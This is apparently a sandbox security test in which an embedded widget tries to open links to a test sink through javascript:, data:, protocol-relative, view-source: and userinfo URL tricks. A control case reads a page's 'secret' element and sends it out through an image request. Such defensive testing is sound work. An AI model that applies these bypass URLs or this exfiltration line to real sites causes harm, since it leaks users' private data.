//! guest = "widget"
//! promise = "link-asks"
for (const url of [SINK + "/a", "javascript:fetch('" + SINK + "/b')", "data:text/html,<img src=" + SINK + "/c>", "//" + SINK.slice(7) + "/d", " " + SINK + "/e", "view-source:" + SINK + "/f", "http://user@" + SINK.slice(7) + "/g"])
  ask("ui/open-link", { url });
setTimeout(end, 500);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
